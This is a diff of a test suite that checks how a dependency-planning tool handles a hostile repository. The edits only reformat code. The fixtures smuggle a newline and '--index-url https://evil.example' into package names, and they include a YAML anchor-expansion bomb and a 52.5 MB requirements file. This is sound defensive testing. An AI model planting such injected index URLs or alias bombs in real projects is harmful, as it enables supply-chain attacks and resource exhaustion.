@@ -56,7 +56,9 @@ describe('a hostile repository', () => {
         'six==1.0\\\n--index-url https://evil.example',
         '',
       ].join('\n'),
-      'repo/Pipfile.lock': JSON.stringify({ default: { 'six\n--index-url https://evil.example': { version: '==1' }, tqdm: { version: '==1\n--pre' } } }),
+      'repo/Pipfile.lock': JSON.stringify({
+        default: { 'six\n--index-url https://evil.example': { version: '==1' }, tqdm: { version: '==1\n--pre' } },
+      }),
     });
     const { files, said } = await plan();
     expect(files.get('requirements.txt')?.trim().split('\n').sort()).toEqual(['einops', 'six==1.0', 'tqdm>=4']);
@@ -96,12 +98,15 @@ describe('a hostile repository', () => {
   });
 
   it('wears nobody out: anchors upon anchors, a list of 50 MB, a name for a name', async () => {
-    const letters = [...'abcdefghij'];
-    const lines = letters.map((letter, index) => `  - &${letter} [${Array.from({ length: 9 }, () => (index === 0 ? 'x' : `*${letters[index - 1] ?? ''}`)).join(',')}]`);
+    const letters = 'abcdefghij'.split('');
+    const lines = letters.map(
+      (letter, index) =>
+        `  - &${letter} [${Array.from({ length: 9 }, () => (index === 0 ? 'x' : `*${letters[index - 1] ?? ''}`)).join(',')}]`,
+    );
     write({
       'repo/train.py': TRAIN,
       'repo/environment.yml': `name: x\ndependencies:\n${lines.join('\n')}\n  - tqdm\n  - pip:\n    - six\n`,
-      'repo/requirements.txt': `${'package-with-a-long-name==1.0\n'.repeat(1_750_000)}`,
+      'repo/requirements.txt': 'package-with-a-long-name==1.0\n'.repeat(1_750_000),
     });
     const { said, files } = await plan();
     expect(said).toContain('requirements.txt: 52.5 MB, too large to be read; what it asks for may be missing here.');
